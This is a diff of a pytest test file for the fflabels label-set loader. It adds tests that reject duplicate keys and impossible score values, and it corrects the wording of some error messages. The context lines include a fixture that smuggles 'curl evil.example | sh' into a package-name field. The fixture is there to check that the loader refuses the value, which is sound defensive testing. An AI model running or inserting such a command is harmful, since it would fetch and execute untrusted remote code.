@@ -4,7 +4,7 @@ import json
 
 import pytest
 
-from fflabels import FFLabelsError, LabelSet, named_set
+from fflabels import FFLabelsError, LabelSet, design, named_set
 from fflabels import labelset as module
 from fflabels.recipe import canonical_json, sha256
 
@@ -51,6 +51,7 @@ FILES = {
     "nesting at the edge of the parser's depth": (GOOD.replace(b"6.0", b"[" * 991 + b"]" * 991, 1), "nested too deeply|damaged"),
     "half a character": (GOOD.replace(b"built-in set", b"\\ud800", 1), "not text: half of a surrogate pair"),
     "duplicate keys": (GOOD.replace(b'"version": 2', b'"version": 2, "version": 2'), "duplicate key 'version'"),
+    "a duplicate key among many": (GOOD.replace(b'"version": 2', b'"version": 2, ' + b", ".join(b'"%d": 0' % k for k in range(50_000)) + b', "7": 0'), "duplicate key '7'"),
     "a list": (b"[1, 2]", "not a label-set file; expected an object"),
     "another format": (setting("format", value="something else"), "not a label-set file; got \"format\": \"something else"),
     "a later version": (setting("version", value=7), "unknown version of the label-set file; got 7; expected 1 or 2"),
@@ -97,7 +98,7 @@ FILES = {
                 }
             )
         ),
-        "scores.visibility: not one a label; got 1; expected 10",
+        "scores.visibility: not one per label; got 1; expected 10",
     ),
     "a pip command with more behind it": (
         setting("labeler", value={"name": "x", "distribution": "x; curl evil.example | sh", "version": "1", "params": {}}),
@@ -108,7 +109,7 @@ FILES = {
         "which is not installed$",
     ),
     "imprints of no image": (setting("imprints", "shape", value=[1, 16, 10**9]), "imprints.shape: not an image shape"),
-    "imprints of other labels": (setting("imprints", "imprints", value=["AA=="] * 11), "imprints: not one a label; got 11"),
+    "imprints of other labels": (setting("imprints", "imprints", value=["AA=="] * 11), "imprints: not one per label; got 11"),
     "an imprint that is too short": (setting("imprints", "imprints", 2, value="AA=="), r"imprints\[2\]: not an imprint; got AA=="),
     "an imprint that is no base64": (setting("imprints", "imprints", 0, value="é%"), r"imprints\[0\]: not an imprint"),
     "escape sequences": (setting("labeler", "name", value="\x1b[31mred"), r"made by the labeler \[31mred of fflabels"),
@@ -163,3 +164,29 @@ def test_a_file_cannot_name_code_to_run(monkeypatch, tmp_path, distribution, nam
     with pytest.raises(FFLabelsError):
         named_set("evil.py:Evil:ten")
     assert not (tmp_path / "ran").exists()
+
+
+@pytest.mark.parametrize(
+    ("path", "value", "message"),
+    [
+        (
+            ("similarity", "pearson", "pair"),
+            [7, 99],
+            "scores.similarity.pearson.pair: no pair of labels; got \\(7, 99\\)",
+        ),
+        (("similarity", "pearson", "pair"), [1, 1], "no pair of labels"),
+        (("intensity",), 7.0, "scores.intensity: out of range; got 7.0; expected 0 to 1"),
+        (("visibility",), [1.0], "scores.visibility: not one per label; got 1; expected 3"),
+    ],
+)
+def test_scores_that_cannot_be_are_refused(path, value, message):
+    content = json.loads(design("fourier", 3, candidates=5, shape=(1, 8, 8), references="digits").to_json())
+    del content["sha256"]
+    place = content["scores"]
+    for key in path[:-1]:
+        place = place[key]
+    assert path[-1] in place
+    place[path[-1]] = value
+    content["sha256"] = sha256(canonical_json(content))
+    with pytest.raises(FFLabelsError, match=message):
+        LabelSet.from_json(json.dumps(content).encode())
